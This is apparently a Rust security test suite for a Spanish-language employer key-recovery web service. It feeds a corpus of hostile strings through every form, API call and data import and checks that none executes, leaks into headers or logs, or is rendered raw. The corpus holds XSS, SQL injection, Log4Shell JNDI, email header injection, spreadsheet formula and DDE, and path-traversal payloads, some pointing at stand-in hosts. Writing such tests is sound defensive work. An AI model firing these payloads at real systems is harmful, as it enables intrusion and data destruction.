//! T11: a corpus of hostile strings through every field of every form and call, and through an import.

use serde_json::{Value, json};

use crate::{
    api::{Api, NEW_KEY},
    case_pages::Browser,
    employers::{Employer, Registry},
    mail::Inbox,
    secrets::ARGON2_OF_OLD_KEY,
    server::{Setup, TestServer},
};

const OLD_KEY: &str = "la clave que ya tenía 1";

/// A mark that is looked for afterwards, in the syntax of whatever might take it for its own.
const CORPUS: [&str; 22] = [
    "<script>alert(/m4rk/)</script>",
    "\"><img src=x onerror=alert(/m4rk/)>",
    "' onmouseover='alert(/m4rk/)",
    "javascript:alert(/m4rk/)",
    "</title><svg onload=alert(/m4rk/)>",
    "' OR '1'='1",
    "'; DROP TABLE employer; --",
    "1); DELETE FROM recovery; --",
    "$1",
    "{{7*7}}m4rk",
    "${jndi:ldap://m4rk.example/a}",
    "{% include \"/etc/passwd\" %}",
    "#import \"@preview/m4rk:1.0.0\"",
    "a\r\nBcc: m4rk@evil.example\r\n\r\nm4rk",
    "a\nSet-Cookie: m4rk=1",
    "=HYPERLINK(\"http://m4rk.example\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{\"level\":\"ERROR\",\"m4rk\":1}\n{\"forged\":\"m4rk\"}",
    "\u{202e}m4rk\u{2066}",
    "m4rk\u{0}\u{7}\u{1b}[31m",
    "%0d%0am4rk%00..%2f..%2fetc%2fpasswd",
    "../../../../etc/passwd",
];

const FORMS: [(&str, &[&str]); 6] = [
    ("/empleadores/recuperar-clave", &["representative_id", "ruc", "sucursal", "form", "proof"]),
    ("/empleadores/ingresar", &["representative_id", "ruc", "sucursal", "password", "proof"]),
    ("/empleadores/clave-patronal", &["representative_id", "ruc", "sucursal"]),
    ("/empleadores/clave-patronal/buscar", &["reference", "referencia"]),
    ("/clave/papeleta", &["representative_id", "ruc", "sucursal", "slip"]),
    ("/ventanilla/ingresar", &["email", "code", "ceremony", "assertion"]),
];

fn identifiers(employer: &Employer) -> Vec<(&'static str, String)> {
    crate::case_pages::identifiers(employer)
}

/// A page that shows the mark shows it as text.
fn assert_is_text(page: &str, hostile: &str, place: &str) {
    for raw in ["<script>alert(/m4rk", "<img src=x", "<svg onload", "' onmouseover='", "href=\"javascript:"] {
        assert!(!page.contains(raw), "{hostile:?} at {place}: {page}");
    }
    assert!(!page.contains("49m4rk") && !page.contains("root:x:0"), "{hostile:?} at {place} was carried out");
}

async fn every_form(server: &TestServer, known: &Employer) {
    let browser = Browser::of(server);
    for (path, names) in FORMS {
        for (name, hostile) in names.iter().flat_map(|name| CORPUS.map(|hostile| (*name, hostile))) {
            let mut form = identifiers(known);
            form.retain(|(known, _)| {
                *known != name && (*known != "ruc" || path != "/empleadores/recuperar-clave")
            });
            form.push((name, hostile.to_owned()));
            let answer = browser.post(path, &form).await;
            let place = format!("{path} {name}");
            assert!(answer.status().as_u16() < 500, "{hostile:?} at {place}: {answer:?}");
            assert!(
                !answer
                    .headers()
                    .values()
                    .any(|value| value.to_str().is_ok_and(|text| text.contains("m4rk"))),
                "{place}"
            );
            assert_is_text(&answer.text().await.unwrap(), hostile, &place);
        }
    }
}

async fn every_call(api: &Api, known: &Employer) {
    let link = format!("/links/{}/password", "A".repeat(43));
    let calls: [(&str, &[&str]); 3] = [
        ("/recoveries", &["representative_id", "ruc", "sucursal", "locale", "proof"]),
        ("/sessions", &["representative_id", "ruc", "sucursal", "password", "proof"]),
        (&link, &["password", "opened"]),
    ];
    for (path, names) in calls {
        for (name, hostile) in names.iter().flat_map(|name| CORPUS.map(|hostile| (*name, hostile))) {
            let mut body = match path {
                "/recoveries" | "/sessions" => crate::api::identifiers(known),
                _ => json!({ "password": NEW_KEY }),
            };
            body[name] = hostile.into();
            let answer = api.post(path, &body).await;
            // A language or a proof that is none may be passed over; nothing else is.
            let is_started = path == "/recoveries" && ["locale", "proof"].contains(&name);
            assert!(
                answer.status.is_client_error() || is_started || answer.status == 201,
                "{hostile:?} at {path} {name}: {answer:?}"
            );
            assert!(answer.status.as_u16() < 500, "{hostile:?} at {path} {name}: {answer:?}");
        }
    }
}

#[tokio::test]
async fn no_field_of_any_form_or_call_carries_anything_out() {
    let mut registry = Registry::default();
    let known = registry.company();
    let inbox = Inbox::open();
    let server =
        Setup::new(&registry, inbox.port()).set("limits.sign_in_failures_per_employer", "100000").start();
    every_form(&server, &known).await;
    every_call(&Api::of(&server), &known).await;
    // Each line of the log is one of ours, whatever stood in what it tells of.
    let log = server.log();
    assert!(
        log.lines()
            .all(|line| serde_json::from_str::<Value>(line).is_ok_and(|line| line["fields"].is_object()))
    );
    assert!(!log.contains("m4rk"), "what was typed is not logged");
    // The tables are there, and so is the way through them.
    let other = Browser::of(&server);
    assert_eq!(other.get("/ayuda").await.status(), 200);
    drop(inbox);
}

#[tokio::test]
async fn names_from_an_import_are_text_in_mails_pages_and_answers() {
    let mut registry = Registry::default();
    let employers: Vec<Employer> = CORPUS
        .map(|hostile| {
            registry.company_with(|row| {
                row.name = hostile.replace('"', "\"\"");
                ARGON2_OF_OLD_KEY.clone_into(&mut row.key_hash);
            })
        })
        .into_iter()
        .collect();
    let inbox = Inbox::open();
    let server = Setup::new(&registry, inbox.port()).start();
    let api = Api::of(&server);
    let mut walked = 0;
    for employer in &employers {
        let started = api.try_start(employer).await;
        // A name that no register holds may have been left out at the import.
        if started.status != 201 {
            started.assert_problem(422, "data-mismatch");
            continue;
        }
        walked += 1;
        let mail = inbox.next(&employer.email).await;
        let heads = mail.raw_text().split("\r\n\r\n").next().unwrap().to_lowercase();
        assert!(!heads.contains("\r\nbcc:") && !heads.contains("\r\nset-cookie:"), "{heads}");
        assert!(mail.subject().starts_with("Código de verificación"), "{}", mail.subject());
        assert_is_text(&mail.html(), &employer.name, "a mail");
        assert_eq!(mail.to, employer.email);
        let session = api.sign_in(employer, OLD_KEY).await.ok(201);
        assert!(session["employer"]["name"].is_string(), "{session:#}");
        let account = api.http.get(format!("{}/empleadores/mi-cuenta", server.address()));
        let cookie = format!("clavero_session={}", session["token"].as_str().unwrap());
        let page = account.header("cookie", cookie).send().await.unwrap();
        assert_eq!(page.status(), 200);
        assert_is_text(&page.text().await.unwrap(), &employer.name, "the account");
    }
    assert!(walked >= 15, "{walked} of {} names were taken", CORPUS.len());
    let log = server.log();
    assert!(log.lines().all(|line| serde_json::from_str::<Value>(line).is_ok()), "{log}");
}
